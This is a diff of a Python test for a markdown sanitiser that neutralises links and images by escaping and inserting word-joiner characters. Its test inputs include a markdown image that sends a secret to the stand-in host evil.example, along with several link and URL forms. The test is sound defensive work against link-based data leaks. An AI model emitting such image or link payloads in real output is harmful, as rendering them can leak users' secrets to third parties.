@@ -55,8 +55,11 @@ def test_plain_and_markup() -> None:
     ("text", "expected"),
     [
         ("契約3 **X** [3 · p. 1]", "契約3 **X** [3 · p. 1]"),
-        ("![pixel](http://evil.example/?q=secret)", "![pixel]\\(http://evil.example/?q=secret)"),
-        ("[click](http://evil.example)", "[click]\\(http://evil.example)"),
+        ("![pixel](http://evil.example/?q=secret)", "![pixel]\\(http:\u2060//evil.example/?q=secret)"),
+        ("[click](http://evil.example)", "[click]\\(http:\u2060//evil.example)"),
+        ("see https://evil.example now", "see https:\u2060//evil.example now"),
+        ("www.evil.example, a@evil.example", "www\u2060.evil.example, a\u2060@evil.example"),
+        ("[1]: https://evil.example", "[1]\\: https:\u2060//evil.example"),
         ("[click][ref]", "[click]\\[ref]"),
         ("<img src=x>", "\\<img src=x>"),
         ("already \\<b\\>", "already \\<b\\>"),
